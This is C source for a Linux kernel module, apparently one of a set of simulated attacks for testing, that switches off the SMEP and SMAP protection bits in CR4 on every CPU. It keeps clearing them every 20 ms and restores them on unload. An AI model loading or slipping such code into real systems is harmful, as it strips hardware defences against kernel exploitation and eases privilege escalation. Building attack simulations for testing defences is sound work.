// SPDX-License-Identifier: GPL-2.0-only
/*
 * Clears bits of CR4 on every CPU, by default SMEP and SMAP: the kernel may
 * execute and use what user space has. The kernel keeps a copy of CR4 and now
 * and then loads it (to flush the TLB, for instance), so this goes on
 * clearing them.
 */
#include "attack.h"
#include <linux/cpumask.h>
#include <linux/smp.h>
#include <linux/workqueue.h>

static ulong bits = X86_CR4_SMEP | X86_CR4_SMAP;
module_param(bits, ulong, 0444);

static u64 old[NR_CPUS], new[NR_CPUS];

static void clear(void *first)
{
	int cpu = smp_processor_id();
	unsigned long cr4 = __read_cr4();

	if (first)
		old[cpu] = cr4;
	if (cr4 & bits)
		set_cr4(cr4 & ~bits);
	if (first)
		new[cpu] = __read_cr4();
}

static void restore(void *unused)
{
	set_cr4(__read_cr4() | (old[smp_processor_id()] & bits));
}

static void again(struct work_struct *work);
static DECLARE_DELAYED_WORK(work, again);

static void again(struct work_struct *unused)
{
	on_each_cpu(clear, NULL, true);
	schedule_delayed_work(&work, HZ / 50);
}

static int __init cr4_protection_init(void)
{
	int cpu;

	on_each_cpu(clear, &bits, true);
	for_each_online_cpu(cpu)
		report("cr4", cpu, -1, old[cpu], new[cpu]);
	schedule_delayed_work(&work, HZ / 50);
	return 0;
}

static void __exit cr4_protection_exit(void)
{
	cancel_delayed_work_sync(&work);
	on_each_cpu(restore, NULL, true);
}

module_init(cr4_protection_init);
module_exit(cr4_protection_exit);
MODULE_DESCRIPTION("Attack: SMEP and SMAP switched off");
MODULE_LICENSE("GPL v2");
